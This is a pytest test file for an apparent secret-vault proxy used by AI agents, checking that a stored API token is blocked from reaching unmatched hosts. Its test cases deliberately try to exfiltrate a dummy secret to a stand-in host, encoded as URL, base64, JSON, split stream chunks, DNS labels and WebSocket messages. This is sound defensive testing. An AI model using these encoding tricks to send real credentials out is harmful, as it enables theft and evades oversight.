"""Exfiltration blocking (issue #20), end to end through the real server and a local HTTPS upstream.

The vault holds API_TOKEN, used by the service `local-api` (localhost:<port>); its unmatched policy is
`passthrough`, so `other.upstream.test` is intercepted but matched by no service. A request carrying
the value (raw, URL-encoded, base64, JSON-escaped, split across the chunks of a streamed upload) or
its `{{API_TOKEN}}` placeholder towards that host is refused with 403 `exfiltration_blocked`, the
upstream never sees it, and the audit names the key, never the value.
"""

from __future__ import annotations

import base64
import json
import re
import sys
import time
from collections.abc import Iterator
from urllib.parse import quote

import httpx
import pytest
import trustme
from helpers.proxy import audit_records, wait_audit
from helpers.server import OWNER_EMAIL, OWNER_PASSWORD, ServerProc
from helpers.upstream import TLSUpstream
from helpers.wsclient import ws_via_proxy
from websockets.exceptions import ConnectionClosed

SECRET = 'sk-Exf1l+secret/"42"-value'
LABEL_SECRET = "sk-label-secret-0042"
RESOLVE = "other.upstream.test=127.0.0.1"


@pytest.fixture(scope="module")
def srv(
    tmp_path_factory: pytest.TempPathFactory, upstream_ca: trustme.CA, up: TLSUpstream
) -> Iterator[ServerProc]:
    with ServerProc(tmp_path_factory.mktemp("exfil"), upstream_ca, env={"AGENT_VAULT_RESOLVE": RESOLVE}) as s:
        s.set_credential("API_TOKEN", SECRET)
        s.set_credential("LABEL_KEY", LABEL_SECRET)  # unused by any service: may go nowhere
        s.add_service(
            {
                "name": "local-api",
                "host": "localhost",
                "port": up.port,
                "auth": {"type": "bearer", "token": "API_TOKEN"},
                "substitutions": {"in": ["header", "body"]},
            }
        )
        with s.http() as c:
            c.patch(
                "/v1/vaults/default", json={"password": OWNER_PASSWORD, "unmatched_policy": "passthrough"}
            ).raise_for_status()
        yield s


@pytest.fixture(scope="module")
def client(srv: ServerProc) -> Iterator[httpx.Client]:
    token = srv.make_agent("exfil-bot")
    with httpx.Client(
        proxy=srv.proxy_url(token), verify=str(srv.ca_bundle), trust_env=False, timeout=15
    ) as c:
        yield c


def _blocked(r: httpx.Response, *, named: bool = True) -> dict[str, object]:
    assert r.status_code == 403, r.text
    assert r.headers["x-agent-vault-proxy-error"] == "true"
    body: dict[str, object] = r.json()
    assert body["error"] == "exfiltration_blocked" and "API_TOKEN" in str(body["message"])
    assert body.get("key") == "API_TOKEN" or not named
    assert SECRET not in r.text
    return body


def _other(up: TLSUpstream, path: str) -> str:
    return f"https://other.upstream.test:{up.port}{path}"


ENCODED = {
    "header-raw": lambda u, c: c.get(_other(u, "/echo/h"), headers={"X-Leak": SECRET}),
    "query-urlencoded": lambda u, c: c.get(_other(u, "/echo/q?x=" + quote(SECRET, safe=""))),
    "path-urlencoded-lower": lambda u, c: c.get(
        _other(u, "/echo/" + re.sub("%[0-9A-F]{2}", lambda m: m.group(0).lower(), quote(SECRET, safe="")))
    ),
    "body-json-escaped": lambda u, c: c.post(_other(u, "/echo/j"), content=json.dumps({"k": SECRET})),
    "body-base64-basic": lambda u, c: c.post(
        _other(u, "/echo/b"), content=base64.b64encode(b"user:" + SECRET.encode())
    ),
    "header-base64url-offset": lambda u, c: c.get(
        _other(u, "/echo/h"), headers={"X-Leak": base64.urlsafe_b64encode(b"ab" + SECRET.encode()).decode()}
    ),
    "placeholder-header": lambda u, c: c.get(_other(u, "/echo/p"), headers={"X-Leak": "{{API_TOKEN}}"}),
    "placeholder-query-encoded": lambda u, c: c.get(_other(u, "/echo/p?x=%7B%7B%20API_TOKEN%20%7D%7D")),
}


@pytest.mark.parametrize("form", list(ENCODED))
def test_every_encoded_form_is_refused_before_the_upstream(
    form: str, srv: ServerProc, up: TLSUpstream, client: httpx.Client
) -> None:
    up.requests_seen.clear()
    _blocked(ENCODED[form](up, client))
    rec = wait_audit(
        srv.home, error="exfiltration_blocked", host="other.upstream.test", blocked_key="API_TOKEN"
    )
    assert rec["decision"] == "denied" and rec["status"] == 403
    assert SECRET not in json.dumps(rec) and quote(SECRET, safe="") not in json.dumps(rec)
    time.sleep(0.1)
    assert up.requests_seen.snapshot() == []


def test_the_service_that_uses_the_key_still_gets_it(up: TLSUpstream, client: httpx.Client) -> None:
    up.requests_seen.clear()
    r = client.post(
        f"https://localhost:{up.port}/echo/ok", headers={"X-Mine": "{{API_TOKEN}}"}, content=b"{}"
    )
    assert r.status_code == 200, r.text
    seen = up.requests_seen.wait_for(1)[0]
    assert dict((k.lower(), v) for k, v in seen["headers"])["x-mine"] == SECRET
    # an unrelated request to the unmatched host passes (passthrough policy)
    assert client.get(_other(up, "/echo/fine"), headers={"X-Other": "nothing secret"}).status_code == 200


def test_a_value_split_across_chunks_of_a_streamed_upload_is_cut(
    srv: ServerProc, up: TLSUpstream, client: httpx.Client
) -> None:
    up.requests_seen.clear()
    raw = SECRET.encode()

    def body() -> Iterator[bytes]:
        yield b"x" * 70_000 + raw[:7]
        time.sleep(0.05)
        yield raw[7:] + b"y" * 100

    try:
        r = client.post(_other(up, "/echo/stream"), content=body())
    except httpx.HTTPError:
        pass  # the request was reset: acceptable, as long as nothing of the value went out
    else:
        _blocked(r, named=False)  # cut mid-stream by the engine: the answer names the key in its message
    wait_audit(srv.home, error="exfiltration_blocked", path="/echo/stream", blocked_key="API_TOKEN")
    time.sleep(0.2)
    for seen in up.requests_seen.snapshot():  # the upstream saw a reset request, never a complete one
        assert seen["path"] != "/echo/stream"


def test_blocks_are_counted_in_metrics(srv: ServerProc, up: TLSUpstream, client: httpx.Client) -> None:
    _blocked(client.get(_other(up, "/echo/m"), headers={"X-Leak": SECRET}))
    text = httpx.get(srv.api + "/metrics", trust_env=False).text
    line = next(ln for ln in text.splitlines() if ln.startswith("agent_vault_exfiltration_blocked_total{"))
    assert 'kind="value"' in line and float(line.rsplit(" ", 1)[1]) >= 1


def test_vault_run_canary_is_refused_everywhere(srv: ServerProc, up: TLSUpstream) -> None:
    """`vault run --canary KEY`: the child sees a random canary in KEY; sending it anywhere (an
    unmatched host, or base64-encoded to the service host itself) is refused and named."""
    srv.cli("auth", "login", "--email", OWNER_EMAIL, "--password-stdin", input=OWNER_PASSWORD + "\n")
    script = (
        "import base64, os, requests\n"
        "v = os.environ['STRIPE_KEY']\n"
        "assert v.startswith('av-canary-STRIPE_KEY-') and len(v) > 30, v\n"
        f"a = requests.get('https://other.upstream.test:{up.port}/echo/c', headers={{'X-K': v}})\n"
        f"b = requests.post('https://localhost:{up.port}/echo/c', data=base64.b64encode(b'x' + v.encode()))\n"
        "print(a.status_code, a.json()['error'], b.status_code, b.json()['error'])\n"
    )
    up.requests_seen.clear()
    cp = srv.cli("vault", "run", "--quiet", "--canary", "STRIPE_KEY", "--", sys.executable, "-c", script)
    assert cp.stdout.split() == ["403", "exfiltration_blocked", "403", "exfiltration_blocked"], cp.stderr
    rec = wait_audit(srv.home, error="exfiltration_blocked", host="other.upstream.test", path="/echo/c")
    assert rec["blocked_key"] == "STRIPE_KEY" and rec["actor"].startswith("session:")
    assert up.requests_seen.snapshot() == []
    bad = srv.cli("vault", "run", "--placeholder", "K_A", "--canary", "K_A", "--", "true", check=False)
    assert bad.returncode != 0 and "both --placeholder and --canary" in bad.stderr


def test_a_value_in_a_host_label_is_refused_before_dns_and_scrubbed(
    srv: ServerProc, up: TLSUpstream, client: httpx.Client
) -> None:
    r = client.get(f"https://{LABEL_SECRET}.other.upstream.test:{up.port}/echo/dns")
    assert r.status_code == 403 and r.json()["error"] == "exfiltration_blocked"
    assert r.json()["key"] == "LABEL_KEY" and LABEL_SECRET not in r.text
    rec = wait_audit(srv.home, error="exfiltration_blocked", blocked_key="LABEL_KEY")
    assert rec["host"] == "[REDACTED:LABEL_KEY].other.upstream.test" and LABEL_SECRET not in json.dumps(rec)


def test_a_value_in_a_websocket_message_closes_the_connection(srv: ServerProc, up: TLSUpstream) -> None:
    token = srv.make_agent("exfil-ws-bot")
    url = f"wss://other.upstream.test:{up.port}/ws"
    with ws_via_proxy(srv.proxy_port, token, url, str(srv.ca_bundle)) as ws:
        json.loads(ws.recv(timeout=10))
        ws.send("hello")
        assert ws.recv(timeout=10) == "hello"  # ordinary messages pass
        ws.send("leak " + base64.b64encode(SECRET.encode()).decode())
        with pytest.raises(ConnectionClosed):
            ws.recv(timeout=10)
    rec = wait_audit(srv.home, method="WEBSOCKET", error="exfiltration_blocked")
    assert rec["blocked_key"] == "API_TOKEN" and rec["host"] == "other.upstream.test"


def test_no_audit_record_holds_the_value(srv: ServerProc) -> None:
    for rec in audit_records(srv.home):
        dumped = json.dumps(rec)
        assert SECRET not in dumped and quote(SECRET, safe="") not in dumped and LABEL_SECRET not in dumped
    logs = srv.stderr_text()
    assert SECRET not in logs and LABEL_SECRET not in logs and quote(SECRET, safe="") not in logs
